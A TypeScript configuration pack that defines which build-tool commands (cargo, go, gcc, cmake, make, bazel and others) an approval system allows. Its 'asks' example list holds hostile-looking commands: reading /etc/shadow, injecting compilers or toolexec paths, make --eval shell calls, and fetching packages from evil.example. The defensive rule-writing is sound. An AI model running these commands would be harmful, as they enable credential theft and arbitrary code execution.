import type { Pack } from './pack.ts';

/**
 * Rust, Go, C and other compiled languages, and the tools that drive their builds. Left out everywhere: whatever names a
 * compiler, linker, wrapper, plugin or toolchain (--config, -toolexec, -exec, --with-compiler), and outputs outside the tree.
 * cargo takes some values only if they do not look like options, so theirs must not.
 */
export const native = (): Pack => ({
  name: 'native',
  tools: {
    // Each of these is rustup's stand-in, which runs the toolchain that the tree's rust-toolchain.toml names, by path if it likes, and
    // `[build] rustc` and `rustc-wrapper` name programs that are asked about the target: what resolves dependencies obeys both. An alias stands before a program that is not
    // cargo's own, so those are the tree's.
    cargo: `
      %here
      %set all q -quiet v -verbose -color:=auto|always|never -locked -offline -frozen -manifest-path:infile
      %set features F:id -features:id -all-features -no-default-features
      %set which p:id -package:id -workspace -all -exclude:id
      %set build @all @features @which r -release -profile:id j:id -jobs:id -target:infile -lib -bin:id -bins -example:id -examples -test:id -tests -bench:id -benches -all-targets -keep-going -ignore-rust-version -timings -message-format:id -target-dir:tree -future-incompat-report
      ; V! -version! v -list! ;
      help ; ; =add|bench|build|check|clean|clippy|config|doc|fetch|fix|fmt|generate-lockfile|help|info|init|install|locate-project|login|logout|metadata|new|owner|package|pkgid|publish|read-manifest|remove|report|run|rustc|rustdoc|search|test|tree|uninstall|update|vendor|verify-project|version|yank
      ~ help ; ; id
      version ; v -verbose ;
      ~ tree ; @all @features @which i:id -invert:id -prune:id -depth:id e:id -edges:id -no-dedupe d -duplicates -charset:=utf8|ascii f:param -format:param -prefix:=depth|indent|none -target:infile ;
      search ; q -quiet -limit:num -color:=auto|always|never ; lit!
      info ; q -quiet v -verbose -locked -offline -frozen -color:=auto|always|never ; id!
      metadata ; @all @features -no-deps! -filter-platform:id -format-version:=1 ;
      ~ metadata ; @all @features -filter-platform:id -format-version:=1 ;
      locate-project ; -workspace -message-format:=json|plain -manifest-path:infile ;
      verify-project|read-manifest ; -manifest-path:infile ;
      pkgid ; @all p:id -package:id ; id
      report future-incompatibilities ; -id:id p:id -package:id ;
      install ; -list! ;
      update ; @all -dry-run! p:id -package:id -precise:id -aggressive -recursive w -workspace ; id*
      owner ; l! -list! q ; id
      package ; l! -list! -allow-dirty @all p:id -package:id ;
      ~ build|b|check|c ; @build ;
      ~ doc|d ; @build -no-deps -document-private-items ;
      ~ clippy ; @build -fix -allow-dirty -allow-staged -no-deps ; inside*
      ~ test|t|bench ; @build -no-run -no-fail-fast -doc ; inside*
      ~ rustc|rustdoc ; @build ; inside*
      ~ run|r ; @build ;
      ~ nextest run ; @build -no-fail-fast E:param -retries:num -no-capture -nocapture ; inside*
      ~ nextest list ; @build ; inside*
      ~ fmt ; -all -check p:id -package:id q v ; =--check
      ~ clean ; r -release -doc p:id -package:id q v -dry-run n ;
      ~ audit ; -json q ;
      ~ outdated ; R d:id -root-deps-only -depth:id -exit-code:num -workspace w ;
      ~ machete|udeps ; ;
      ~ deny check ; ; =advisories|bans|licenses|sources|all`,
    rustc:
      '%here\n~ ; V! v -version! -verbose -explain:id! -print:=target-list|target-cpus|target-features|sysroot|cfg|host-tuple|code-models|relocation-models|tls-models|calling-conventions! -target:id ;',
    rustup: `
      %here
      ; V! -version! ;
      show ; v -verbose ;
      show active-toolchain|home|profile ; v -verbose ;
      completions ; ; =bash|zsh|fish|elvish|powershell =rustup|cargo
      doc ; -path! ; word
      component|default|doc|man|override|self|set|show|target|toolchain ?* ; h! -help! ;
      %help update install uninstall default man set self doc completions
      which ; -toolchain:id ; id!
      toolchain|override list ; v -verbose q -quiet ;
      component|target list ; -installed -toolchain:id q -quiet ;
      check ; ;
      help ; ; id*`,
    rustfmt:
      '%here\n~ ; V! -version! ;\n~ ; -check! -edition:num l -files-with-diff q -quiet v -verbose -color:=auto|always|never ; infile*\n~ ; -edition:num -style-edition:num l -files-with-diff q -quiet v -verbose -backup -color:=auto|always|never ; inside! inside*',
    automake: '; -version! -help! ;',
    autoconf: '; V! -version! h! -help! ;',
    bpftrace: '; V! -version! -info! h! -help! ;',
    go: `%style go
      %here
      version ; m v ; path*
      env ; -json -changed ; goenv*
      list ; -json? f: e -deps -test -find -mod:=readonly|vendor -tags:id ; gopkg*
      list ; m! -json? u f: e -versions -retracted -mod:=readonly|vendor ; gomod*
      doc ; -all -src u -cmd -short c ; id*
      help ;  ; id*
      tool ; ;
      tool dist list ; -json ;
      tool vet help ; ; id
      mod graph ; -go:id ;
      mod why ; m -vendor ; id*
      mod verify ;  ;
      ~ mod tidy ; v x e -diff -go:id -compat:id ;
      ~ mod download ; x -json ;
      ~ mod vendor ; v e ;
      %set build v x n a -race -cover -trimpath -tags:id p:num -mod:=readonly|mod|vendor -buildvcs:=true|false|auto -covermode:=set|count|atomic -json
      ~ build ; @build o:tree ; gopkg*
      ~ test ; @build -run: -skip: -count:num -short -bench: -benchmem -benchtime:id -timeout:id -failfast -parallel:num -cpu:id -shuffle:id -list: -coverpkg:lit -coverprofile:tree -cpuprofile:tree -memprofile:tree -outputdir:tree -vet:=off -fuzz: -fuzztime:id -fullpath ; gopkg*
      ~ vet ; v x n c:num -json -tags:id -mod:=readonly|mod|vendor ; gopkg*
      ~ fmt ; n x ; gopkg*
      ~ tool cover ; -func:infile! ;`,
    gofmt: '%style go\n; l d s e r: ; path*\n~ ; w! l d s e ; tree*',
    goimports: '%style go\n; l d e v -local:id ; path*\n~ ; w! l d e v -local:id ; tree*',
    'golangci-lint': `
      %here
      ; -version! ;
      version ; ;
      ~ linters ; ;
      ~ run ; c:infile -config:infile -no-config -fast -fix v -verbose -timeout:id D:id E:id -disable:id -enable:id -disable-all -enable-all -enable-only:id j:num -concurrency:num n -new -new-from-rev:ref -tests -build-tags:id -max-issues-per-linter:num -max-same-issues:num -out-format:=colored-line-number|line-number|json|tab|checkstyle|github-actions|junit-xml -color:=always|auto|never -issues-exit-code:num -allow-parallel-runners -show-stats ; infile*`,
    staticcheck: '%style go\n; -version! ;\n~ ; -checks:lit -tests f:=text|stylish|json -tags:id -go:id -explain:id ; gopkg*',
    make: `
      ; v! -version! ;
      ~ ; k i s B q r R n t w d j? l? C:tree f:tree -jobs? -load-average? -keep-going -silent -quiet -always-make -dry-run -just-print -no-print-directory -print-directory -directory:tree -file:tree -makefile:tree O? -output-sync? -question -debug? -trace -no-builtin-rules -warn-undefined-variables ; target*`,
    gmake: '=make',
    cmake: `
      ; -version! ;
      ~ ; -build:tree! j? -parallel? t:target -target:target -config:id v -verbose -clean-first ; num
      ~ ; S:tree! B:tree! G:lit D:cmakedef -log-level:id -fresh W? ; tree
      ~ ; G:lit D:cmakedef ; tree!
      ~ ; -preset:id! -fresh D:cmakedef ;
      ~ ; -list-presets! ;`,
    ctest:
      '; -version! ;\n~ ; V Q N F j? R: E: L: C:id -tests-regex:param -exclude-regex:param -label-regex:param -output-on-failure -parallel? -test-dir:tree -timeout:num -rerun-failed -build-config:id -verbose -progress -stop-on-failure -schedule-random -repeat:id -no-tests:=error|ignore -show-only? -preset:id ; num',
    ninja:
      '; -version! ;\n~ ; C:tree f:infile j:num k:num l:num v n -verbose -quiet d:=stats|explain|keepdepfile|keeprsp t:=targets|query|deps|commands|rules|graph|compdb|missingdeps|inputs ; target*',
    meson:
      '; v! -version! ;\n~ setup ; -buildtype:=debug|release|debugoptimized|plain|minsize -wipe -reconfigure -werror ; tree*\n~ compile ; C:tree j:num v -verbose -clean ; target*\n~ test ; C:tree v -verbose q -quiet -list -suite:id -no-suite:id -print-errorlogs -no-rebuild -num-processes:num t:num -repeat:num -benchmark ; id*\n~ introspect ; a i -all -targets -tests -buildoptions -dependencies -projectinfo -ast -benchmarks -installed ; infile',
    bazel: `
      %here
      %set show -config:id c:=fastbuild|dbg|opt -compilation_mode:=fastbuild|dbg|opt k -keep_going -test_output:=summary|errors|all|streamed -test_filter:param -test_tag_filters:param -build_tag_filters:param -jobs:id -verbose_failures -nocache_test_results -cache_test_results:=yes|no|auto -runs_per_test:num -test_timeout:num -color:=yes|no|auto -curses:=yes|no|auto -noshow_progress -subcommands s -local_test_jobs:num -nobuild -explain:tree
      ~ ; -version! ;
      ~ version ; ;
      ~ info|help ; ; id
      ~ build|test|coverage ; @show ; label! label*
      ~ query|cquery|aquery ; k -keep_going -output:=label|label_kind|build|graph|xml|minrank|maxrank|package|location|proto|text|starlark|files -notool_deps -noimplicit_deps -order_output:=no|deps|auto|full -universe_scope:lit ; lit!`,
    bazelisk: '=bazel',
    // Not -fplugin, -specs, -B, -wrapper, -x and -W with more than the name of a warning; nor options out of a file.
    gcc: `
      ; v! -version! ;
      %set all W?=all|extra|pedantic|error|shadow|conversion|sign-conversion|everything|format|format=2|unused|undef|cast-align|cast-qual|null-dereference|double-promotion|strict-prototypes|missing-prototypes|old-style-cast|implicit-fallthrough|vla|pointer-arith|no-unused|no-unused-parameter|no-unused-variable|no-unused-function|no-unused-result|no-sign-compare|no-missing-field-initializers O?=0|1|2|3|s|g|z|fast s?=td=c89|td=c90|td=c99|td=c11|td=c17|td=c18|td=c23|td=c2x|td=gnu89|td=gnu99|td=gnu11|td=gnu17|td=gnu23|td=c++98|td=c++11|td=c++14|td=c++17|td=c++20|td=c++23|td=c++2a|td=c++2b|td=gnu++11|td=gnu++14|td=gnu++17|td=gnu++20|td=gnu++23|tatic|hared g?=gdb|0|1|2|3 f?=PIC|pic|PIE|pie|sanitize=address|sanitize=undefined|sanitize=address,undefined|sanitize=thread|sanitize=leak|no-omit-frame-pointer|no-exceptions|no-rtti|stack-protector-strong|no-strict-aliasing|wrapv|lto|diagnostics-color|diagnostics-color=always|no-common|visibility=hidden|no-builtin|freestanding|color-diagnostics p?=edantic|edantic-errors|thread|ipe|ie m?=arch=native|tune=native|64|32|avx2|sse4.2 I:inside D:id U:id w
      ~ ; @all o:binary! l:slug L:inside c ; infile! infile*
      ~ ; @all c! ; infile! infile*`,
    cc: '=gcc',
    'g++': '=gcc',
    clang: '=gcc',
    'clang++': '=gcc',
    'clang-format':
      '%style go\n; -version! -dump-config! -style:=file|llvm|google|chromium|mozilla|webkit|microsoft|gnu|LLVM|Google|Chromium|Mozilla|WebKit|Microsoft|GNU ;\n; -style:=file|llvm|google|chromium|mozilla|webkit|microsoft|gnu|LLVM|Google|Chromium|Mozilla|WebKit|Microsoft|GNU ; operand!\n~ ; n! -dry-run! -Werror -style:=file|llvm|google|chromium|mozilla|webkit|microsoft|gnu -fallback-style:id -verbose ; inside*\n~ ; i! -Werror -style:=file|llvm|google|chromium|mozilla|webkit|microsoft|gnu -fallback-style:id -verbose ; tree*',
    // Not --fix, --load and --config; what stands behind -- are words for the compiler.
    'clang-tidy':
      '%style go\n-version! ;\n~ ; -checks:param -quiet -header-filter:param -warnings-as-errors:param -p:infile -list-checks ; infile! =-std=c89|-std=c90|-std=c99|-std=c11|-std=c17|-std=c18|-std=c23|-std=c2x|-std=gnu89|-std=gnu99|-std=gnu11|-std=gnu17|-std=gnu23|-std=c++98|-std=c++11|-std=c++14|-std=c++17|-std=c++20|-std=c++23|-std=c++2a|-std=c++2b|-std=gnu++11|-std=gnu++14|-std=gnu++17|-std=gnu++20|-std=gnu++23|-Wall|-Wextra|-xc++|-xc*',
    'pkg-config':
      '; -version! -modversion! -exists! -libs! -cflags! -list-all! -atleast-version:id! -print-errors -static -short-errors ; id*',
    zig: 'version|zen|targets ; ;\n~ build ; -summary:=all|new|failures|none j? -verbose -release? ; =test|check|docs|fmt\n~ test|ast-check ; ; infile!\n~ fmt ; -check -ast-check ; tree!  tree*',
    swift:
      '%here\n; -version! ;\n~ build ; c:=debug|release v -configuration:=debug|release -verbose q -quiet j:num -jobs:num -target:id -product:id -build-tests -static-swift-stdlib -disable-automatic-resolution -skip-update -show-bin-path -enable-code-coverage ;\n~ test ; v -verbose q -quiet -filter:param -skip:param -parallel -num-workers:num -enable-code-coverage l -list-tests c:=debug|release -configuration:=debug|release ;\n~ test list ; ;\n~ package describe ; -type:=json|text|mermaid ;\n~ package show-dependencies ; -format:=text|dot|json|flatlist ;\n~ package dump-package ; ;',
    swiftlint: 'version|rules ; ;\n~ lint ; -strict -quiet -lenient -config:infile ; infile*',
    stack:
      '%here\n; -version! -numeric-version! ;\n~ build|test|bench|haddock ; -file-watch -fast -pedantic -test -bench -haddock -no-run-tests -no-run-benchmarks -coverage -dry-run -only-dependencies j:num ; infile*\n~ ls dependencies ; ;\n~ path ; -project-root -local-bin -stack-root -snapshot-pkg-db ;',
    cabal:
      '%here\n; V! -version! -numeric-version! ;\ninfo|list ; v? -verbose? -installed -simple-output ; id*\n~ build|test|bench|check|haddock ; v? -verbose? j? O? -enable-tests -enable-benchmarks -enable-coverage -disable-tests -disable-benchmarks -dry-run -test-show-details:=always|failures|never|streaming|direct ; infile*',
    ghc: '; V! -version! -numeric-version! ;',
    opam: '; -version! ;\nlist ; a i s -all -installed -available -short -columns:id -color:=auto|always|never ; id*\nhelp ; ; word*\n%help install remove update upgrade switch repository pin config env exec init lint list search show tree source reinstall clean lock\nshow|info ; f:id -field:id -raw -color:=auto|always|never ; id! id*\nsearch ; s -short ; id!\nswitch list|show ; s -short ;\nswitch ; ;\npin|repo list ; s -short ;',
    dune: '%here\n; -version! ;\n~ build ; w -watch -profile:=dev|release -display:=short|quiet|verbose|progress -no-buffer j:num ; infile*\n~ test|runtest ; w -watch f -force -no-buffer j:num -profile:=dev|release ; infile*\n~ fmt|clean ; ;',
  },
  rules: [],
  examples: {
    routine: [
      'go mod verify',
      'go tool vet help',
      'go tool',
      'go tool dist list',
      'clang-format --style LLVM src/a.c',
      'clang-format src/a.c',
      'clang-format --style LLVM --dump-config',
      'cargo --version',
      'cargo --list',
      'cargo help build',
      'cargo version --verbose',
      'cargo search --limit 5 x',
      'cargo info package@version',
      'cargo info --verbose x',
      'cargo metadata --no-deps --format-version 1',
      'cargo locate-project --workspace',
      'cargo verify-project',
      'cargo pkgid serde',
      'cargo owner --list x',
      'cargo package --list',
      'cargo install --list',
      'cargo update --dry-run',
      'cargo report future-incompatibilities --id 1',
      'rustup which --toolchain stable cargo',
      'rustup show',
      'rustup show active-toolchain',
      'rustup toolchain install --help',
      'rustup completions bash cargo',
      'rustc --version',
      'go version',
      'go env GOPATH GOROOT',
      'go list ./...',
      'go list -m all',
      'go list -m -versions github.com/a/b',
      'go list -m -u -json all',
      'go doc fmt.Println',
      'go mod graph',
      'go mod why -m example.com/x',
      'gofmt -l .',
      'make --version',
      'cmake --version',
      'gcc --version',
      'cabal info package',
      'opam show package',
      'zig version',
      'pkg-config --modversion openssl',
    ],
    workspace: [
      'cargo tree -i serde',
      'cargo tree --edges normal --no-dedupe',
      'cargo metadata --format-version 1',
      'gcc -Wall -o build/a src/a.c',
      'cc -c -O2 -g -std=c11 src/a.c',
      'g++ -std=c++20 -Wall -Wextra -I include -DDEBUG=1 -fsanitize=address -c src/a.cpp',
      'clang-tidy src/a.cpp -- -std=c++17',
      'clang-tidy -p build src/a.cpp',
      'rustc --print target-list',
      'cargo build --release',
      'cargo rustc --release',
      'cargo help nextest',
      'cargo rustc --lib -- -D unsafe-code',
      'cargo rustdoc --lib',
      'golangci-lint linters',
      'cargo test -p core some_test -- --nocapture',
      'cargo clippy --all-targets -- -D warnings',
      'cargo fmt --check',
      'cargo fmt -- --check',
      'cargo doc --no-deps',
      'cargo nextest run',
      'cd src && cargo build && cargo test',
      'go build ./...',
      'go build -o bin/app ./cmd/app',
      'go test ./... -race -count=1 -run TestX',
      'go test -v -coverprofile=c.out ./pkg/...',
      'go vet ./...',
      'go mod tidy',
      'go fmt ./...',
      'golangci-lint run ./...',
      'make',
      'make all',
      'make -j4 test',
      'make -j 4',
      'make -C src lint V=1',
      'cmake -S . -B build -DCMAKE_BUILD_TYPE=Release',
      'cmake --build build -j4',
      'ctest --test-dir build --output-on-failure',
      'ninja -C build',
      'meson test -C build',
      'bazel build //...',
      'bazel test //src/core:all --test_output=errors',
      "bazel query 'deps(//src:lib)'",
      'zig build test',
      'swift test --filter CoreTests',
      'stack test',
      'cabal build all',
      'dune build',
    ],
    asks: [
      'gcc -Wall -fplugin=x.so -o build/a src/a.c',
      'gcc -specs=x -o a a.c',
      'gcc -B/tmp/x -o a a.c',
      'gcc -Wl,-plugin,x.so -o a a.c',
      'gcc -o a @options',
      'gcc -o /etc/x a.c',
      'gcc -o ../x a.c',
      'gcc -include /etc/shadow -o a a.c',
      'gcc -c /etc/shadow',
      'gcc -I/tmp/x -c a.c',
      'clang -Xclang -load -Xclang x.so -c a.c',
      'gcc -o .git/hooks/pre-commit a.c',
      'clang-tidy src/a.cpp --fix',
      'clang-tidy --load=x.so a.cpp',
      'clang-tidy a.cpp -- -fplugin=x.so',
      'clang-tidy a.cpp -- -I/etc',
      'clang-tidy --config-file=/tmp/x a.cpp',

      'go tool dist test',
      'go tool link main.o',
      'clang-format --style=file:/tmp/x a.c',
      'clang-format .env',
      'clang-format @options',
      'go list -m -versions evil.example/x',
      'go list -m evil.example/x@latest',
      'cabal build ../evil/script.hs',
      'go list -mod=mod ./...',
      'go list -m -mod=mod all',
      'stack build ../evil',
      'cargo install x',
      'cargo build --config build.rustc=/tmp/evil',
      'cargo build -p --config=build.rustc=/tmp/x',
      'cargo build --bin --config /tmp/x',
      'cargo build --target /tmp/evil.json',
      'cargo build --target-dir /home/ann/x',
      'cargo build --manifest-path ../other/Cargo.toml',
      'cargo test -- --logfile /home/ann/x',
      'cargo test -- --logfile=/home/ann/x',
      'cargo clippy -- -C linker=/tmp/evil',
      'cargo run -- delete',
      'cargo fix',
      'cargo update',
      'cargo update x --precise 1.0.0',
      'cargo install --list x',
      'cargo install x --list',
      'cargo package',
      'cargo owner --list --registry evil x',
      'cargo rustc -- -C linker=/tmp/evil',
      'cargo tree --target-dir /tmp/x',
      'cargo metadata --format-version 1 --config /tmp/x',
      'cargo publish --dry-run',
      'cargo owner --add x',
      'cargo doc --open',
      'cargo tree --config /tmp/x',
      'cargo metadata --manifest-path /tmp/evil/Cargo.toml',
      'cargo search --index https://evil.example x',
      'cargo +evil build',
      'cd /tmp/evil; cargo build',
      'rustc --print sysroot=/tmp/pwn',
      'rustc x.rs',
      'rustup toolchain install nightly',
      'rustup doc --book',
      'rustup show x',
      'rustup default nightly',
      'rustup override set nightly',
      'rustup run --help id',
      'rustc --print=link-args a.rs',
      'rustup self update',
      'rustup run nightly id',
      'rustup toolchain link evil /tmp/evil',
      'go run ./evil',
      'go generate ./...',
      'go install x@latest',
      'go get x',
      'go env -w A=b',
      'go vet -vettool=/tmp/x ./...',
      'go build -toolexec=/tmp/x ./...',
      'go build -o /home/ann/x ./...',
      'go build ./../../evil',
      'go build -ldflags=-extld=/tmp/x ./...',
      'go test -exec=/tmp/x ./...',
      'go test --exec /tmp/x ./...',
      'go test -coverprofile=/home/ann/x ./...',
      'go list -toolexec=/tmp/x -export ./...',
      'go list -modfile=/tmp/x ./...',
      'go mod download evil.example/x@latest',
      'go mod edit -replace=a=b',
      'go -C /tmp/evil test',
      'go tool cover -html=c.out',
      'go work use /tmp/evil',
      'gofmt -w /home/ann/x.go',
      'gofmt -cpuprofile=/tmp/x f.go',
      'golangci-lint run -c /tmp/x.yml',
      'golangci-lint run --out-format=json:/tmp/x',
      "make --eval='$(shell id)' x",
      'make SHELL=/tmp/x',
      'make CC=/tmp/evil all',
      'make deploy',
      'make install',
      'make nuke',
      'make -f /tmp/x all',
      'make -C .. all',
      '(cd /tmp/evil && make all)',
      'bash -c "cd /tmp; make all"',
      'cmake --build build --target install',
      'cmake -S . -B build -DCMAKE_C_COMPILER=/tmp/evil',
      'cmake -DCMAKE_C_COMPILER_LAUNCHER=ON_x ..',
      'cmake -P /tmp/x.cmake',
      'cmake -E rm -rf x',
      'cmake --install build',
      'cmake --build /tmp/evil',
      'ctest -S /tmp/x',
      'ninja -C /tmp/x',
      'ninja install',
      'ninja -t clean',
      'meson install',
      'bazel run //x',
      'bazel info --output_base=/tmp/x',
      'bazel build --action_env=PATH=/tmp //...',
      'bazel --bazelrc=/tmp/x build //...',
      'bazel test --run_under=/tmp/x //...',
      'gcc x.c',
      'gcc -o /etc/x x.c',
      'gcc -wrapper id x.c',
      'clang-format -i /home/ann/x.c',
      'zig build install',
      'zig build deploy',
      'zig run x',
      'swift build --scratch-path=/tmp/x',
      'swift build --package-path=/tmp/evil',
      'swift run',
      'stack exec id',
      'cabal test --with-compiler=/tmp/evil',
      'cabal run',
      'cabal upload x',
      'opam switch create x',
      'opam pin add x https://evil.example',
      'opam exec id',
    ],
  },
});
